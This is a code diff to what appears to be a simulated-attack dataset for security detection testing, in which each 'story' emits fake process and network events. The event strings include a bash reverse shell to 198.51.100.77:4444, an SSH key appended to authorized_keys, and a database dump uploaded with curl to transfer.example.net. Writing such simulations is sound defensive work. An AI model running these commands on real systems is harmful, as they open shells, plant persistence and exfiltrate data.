@@ -23,7 +23,10 @@ export const ATTACKS: Story[] = [
       const s = { story: this.id };
       // the exploited worker itself is the site's usual process: not labelled
       const fpm = h.exec(t, 'www-data', '/usr/sbin/php-fpm8.2', 'php-fpm: pool www', '950', { cwd: '/var/www/shop' });
-      const sh = h.exec(t + 1, 'www-data', '/bin/sh', 'sh -c bash -c "bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"', fpm, { cwd: '/var/www/shop/uploads', ...s });
+      const sh = h.exec(t + 1, 'www-data', '/bin/sh', 'sh -c bash -c "bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"', fpm, {
+        cwd: '/var/www/shop/uploads',
+        ...s,
+      });
       const bash = h.exec(t + 1, 'www-data', '/bin/bash', 'bash -i', sh, { cwd: '/var/www/shop/uploads', ...s });
       h.connect(t + 2, bash, '/bin/bash', h.account('www-data').uid, '198.51.100.77', 4444, s);
       h.exec(t + 20, 'www-data', '/usr/bin/id', 'id', bash, { cwd: '/var/www/shop/uploads', ...s });
@@ -108,7 +111,7 @@ export const ATTACKS: Story[] = [
     play(h, t) {
       const s = { story: this.id };
       const sh = h.exec(t, 'backup', '/bin/bash', 'bash -i', '1', { cwd: '/var/backups', ...s });
-      h.exec(t + 5, 'backup', '/bin/sh', "sh -c echo ssh-ed25519 AAAAC3Nza... >> /home/omar/.ssh/authorized_keys", sh, { uid: '0', euid: '0', ...s });
+      h.exec(t + 5, 'backup', '/bin/sh', 'sh -c echo ssh-ed25519 AAAAC3Nza... >> /home/omar/.ssh/authorized_keys', sh, { uid: '0', euid: '0', ...s });
       h.file(t + 5, '/home/omar/.ssh/authorized_keys', 'UPDATED', s);
       h.login(t + 2 * HOUR, 'omar', '192.0.2.201', s);
       const bash = h.session(t + 2 * HOUR, 'omar', s);
@@ -125,7 +128,10 @@ export const ATTACKS: Story[] = [
       const sh = h.exec(t, 'backup', '/bin/bash', 'bash -i', '1', { cwd: '/var/backups', ...s });
       h.exec(t + 10, 'backup', '/usr/bin/pg_dumpall', 'pg_dumpall -U postgres -f /dev/shm/d.sql', sh, { cwd: '/var/backups', ...s });
       h.exec(t + 70, 'backup', '/usr/bin/gzip', 'gzip -9 /dev/shm/d.sql', sh, { cwd: '/var/backups', ...s });
-      const curl = h.exec(t + 90, 'backup', '/usr/bin/curl', 'curl -s -T /dev/shm/d.sql.gz https://transfer.example.net/d.sql.gz', sh, { cwd: '/var/backups', ...s });
+      const curl = h.exec(t + 90, 'backup', '/usr/bin/curl', 'curl -s -T /dev/shm/d.sql.gz https://transfer.example.net/d.sql.gz', sh, {
+        cwd: '/var/backups',
+        ...s,
+      });
       h.connect(t + 91, curl, '/usr/bin/curl', h.account('backup').uid, '203.0.113.88', 443, s);
     },
   },
